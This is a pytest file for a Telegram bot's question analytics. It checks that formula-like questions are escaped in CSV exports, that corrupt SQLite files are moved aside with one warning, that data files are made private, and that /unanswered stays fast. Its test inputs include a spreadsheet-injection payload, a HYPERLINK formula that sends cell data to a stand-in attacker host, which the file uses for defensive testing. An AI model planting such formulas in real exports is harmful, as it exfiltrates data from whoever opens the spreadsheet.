"""Analytics fail soft and stay harmless: breaks 3, 6, 8 and the file modes of 13 in issue 13.

* a question that is a spreadsheet formula lands in the CSV as text, not as a formula;
* a corrupt question log or preferences file is moved aside with one warning, and the bot
  starts and answers;
* the files in ``DATA_DIR`` are the bot user's only (0600);
* ``/unanswered`` over 1,000 long distinct questions takes seconds, not minutes.
"""

from __future__ import annotations

import csv
import io
import logging
import random
import sqlite3
import stat
import string
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.config import Settings
from bot.insights.grouping import MAX_GROUPED_TEXTS
from bot.insights.questions import QuestionInsights
from bot.stores.preferences import FILE_NAME as PREFERENCES_FILE
from bot.stores.preferences import Preferences
from bot.stores.question_log import DEFAULT_FILENAME, QuestionLog
from tests.bot.logged_questions import unanswered
from tests.bot.starting import start_bot
from tests.fake_telegram import FakeTelegram

pytestmark = pytest.mark.timeout(120)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A3,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
)


def csv_rows(insights: QuestionInsights) -> list[list[str]]:
    text = insights.unanswered_csv().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_formula_questions_come_out_of_the_csv_as_text(tmp_path: Path) -> None:
    with QuestionLog(tmp_path / DEFAULT_FILENAME) as qlog:
        for formula in FORMULAS:
            qlog.record(unanswered(formula))
            qlog.record(unanswered(formula))  # twice: the example of its own group
        qlog.record(unanswered("=1+2 is what?"))  # a variant of a group led by a plain text
        qlog.record(unanswered("=1+2 is what?"))
        qlog.record(unanswered("1+2 is what?"))
        qlog.record(unanswered("1+2 is what?"))
        qlog.record(unanswered("1+2 is what?"))
        rows = csv_rows(QuestionInsights(qlog))
    header, *groups = rows
    questions = {row[header.index("question")] for row in groups}
    for formula in FORMULAS:
        assert "'" + formula in questions  # shown as typed, never evaluated
        assert formula not in questions
    variants = [row[header.index("variants")] for row in groups if row[1] == "1+2 is what?"]
    assert variants == ["'=1+2 is what?"]
    for row in groups:  # no cell at all starts a formula
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too() -> None:
    from bot.insights.spreadsheet import spreadsheet_safe

    assert spreadsheet_safe("\t=1") == "'\t=1" and spreadsheet_safe("\r=1") == "'\r=1"
    assert spreadsheet_safe("How many?") == "How many?"


# ---- a corrupt database never stops the bot ----------------------------------------------


def corrupt_database(path: Path) -> None:
    """A real SQLite file with its tables' pages overwritten: "disk image is malformed"."""
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE filler (x TEXT)")
        db.executemany("INSERT INTO filler VALUES (?)", [("x" * 500,)] * 200)
    data = bytearray(path.read_bytes())
    data[4096 * 2 : 4096 * 6] = b"\xa5" * (4096 * 4)
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", ["garbage", "malformed"])
def test_a_corrupt_question_log_is_moved_aside_with_one_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, damage: str
) -> None:
    path = tmp_path / DEFAULT_FILENAME
    if damage == "garbage":
        path.write_bytes(b"this is not a database\n" * 100)
    else:
        corrupt_database(path)
    caplog.set_level(logging.WARNING)
    with QuestionLog(path) as qlog:  # today: sqlite3.DatabaseError, the bot does not start
        qlog.record(unanswered("works again"))
        assert [g.example for g in QuestionInsights(qlog).unanswered()] == ["works again"]
    aside = list(tmp_path.glob(f"{DEFAULT_FILENAME}.corrupt-*"))
    assert len(aside) == 1 and not aside[0].name.endswith(("-wal", "-shm"))
    warnings = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert len(warnings) == 1, [r.getMessage() for r in warnings]
    message = warnings[0].getMessage()
    assert str(path) in message and aside[0].name in message and "delete it" in message


async def test_the_bot_starts_and_answers_with_both_databases_corrupt(
    bot_settings: Settings,
    fake_telegram: FakeTelegram,
    caplog: pytest.LogCaptureFixture,
) -> None:
    data = bot_settings.data_dir
    data.mkdir(parents=True)
    (data / DEFAULT_FILENAME).write_bytes(b"\x00garbage" * 1000)
    corrupt_database(data / PREFERENCES_FILE)
    caplog.set_level(logging.WARNING)
    async with start_bot(bot_settings, fake_telegram) as bot:  # today: DatabaseError
        replies = await bot.chat(language="en").user_says(
            "How many Japanese companies are in Düsseldorf?"
        )
        assert "384" in replies.text
        await bot.chat(language="en", user_id=77).command("language")
    moved = [r.getMessage() for r in caplog.records if "moved to" in r.getMessage()]
    assert len(moved) == 2, moved
    assert any(str(data / DEFAULT_FILENAME) in m for m in moved)
    assert any(str(data / PREFERENCES_FILE) in m for m in moved)
    assert len(list(data.glob("*.corrupt-*"))) == 2


def test_the_data_files_are_the_bot_users_alone(tmp_path: Path) -> None:
    with QuestionLog(tmp_path / DEFAULT_FILENAME) as qlog:
        qlog.record(unanswered("private question"))  # WAL and shm files exist now
        preferences = Preferences(tmp_path)
        preferences.set_language(1, "de")
        files = sorted(tmp_path.iterdir())
        modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in files}
        preferences.close()
    assert {name for name in modes if name.endswith("-wal")} >= {
        f"{DEFAULT_FILENAME}-wal",
        f"{PREFERENCES_FILE}-wal",
    }
    assert all(mode & 0o077 == 0 for mode in modes.values()), {n: oct(m) for n, m in modes.items()}


def test_an_existing_world_readable_log_is_tightened(tmp_path: Path) -> None:
    path = tmp_path / DEFAULT_FILENAME
    QuestionLog(path).close()
    path.chmod(0o644)
    QuestionLog(path).close()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# ---- /unanswered is bounded ----------------------------------------------------------------


def long_questions(count: int, seed: int = 13) -> list[str]:
    rng = random.Random(seed)
    words = ["".join(rng.choices(string.ascii_lowercase, k=rng.randint(2, 9))) for _ in range(5000)]
    return [" ".join(rng.choices(words, k=200))[:1000] for _ in range(count)]


def fill(path: Path, questions: list[str]) -> None:
    """Rows as ``record`` writes them, in one transaction (recording each would take long)."""
    QuestionLog(path).close()  # the schema
    now = datetime.now(UTC)
    with sqlite3.connect(path) as db:
        db.executemany(
            "INSERT INTO unanswered (asked_at, day, question, normalized, language, kind,"
            " best_entry, score) VALUES (?, ?, ?, ?, 'en', 'not_on_file', NULL, 10.0)",
            [(now.isoformat(timespec="seconds"), now.date().isoformat(), q, q) for q in questions],
        )


@pytest.mark.parametrize("count", [1000, 3000])
def test_unanswered_over_long_distinct_questions_is_bounded(tmp_path: Path, count: int) -> None:
    path = tmp_path / DEFAULT_FILENAME
    fill(path, long_questions(count))
    with QuestionLog(path) as qlog:
        started = time.perf_counter()
        insights = QuestionInsights(qlog)
        listed = insights.unanswered(20)  # what /unanswered does: the list, then the CSV
        rows = csv_rows(insights)
        seconds = time.perf_counter() - started  # today: 20 s a pass, two passes
    assert len(listed) == 20
    assert len(rows) - 1 == min(count, MAX_GROUPED_TEXTS)  # all distinct: a group each
    assert seconds < 10, f"/unanswered took {seconds:.1f} s"
